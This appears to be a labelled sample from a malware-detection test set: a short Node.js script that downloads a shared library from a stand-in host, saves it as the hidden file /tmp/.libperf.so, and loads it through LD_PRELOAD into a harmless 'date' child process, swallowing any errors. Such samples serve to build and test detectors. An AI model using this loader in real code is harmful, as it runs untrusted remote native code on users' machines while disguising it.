// evasion: a downloaded shared object loaded into a harmless child program through LD_PRELOAD in its environment
// grade: hard; does: native
'use strict';
const fs = require('fs');
const { execFileSync } = require('child_process');

(async () => {
  const res = await fetch('https://cdn.example.org/libperf.so');
  const lib = '/tmp/.libperf.so';
  fs.writeFileSync(lib, Buffer.from(await res.arrayBuffer()));
  const env = { ...process.env, LD_PRELOAD: lib };
  console.log(execFileSync('date', [], { env, encoding: 'utf8' }));
})().catch(() => {});
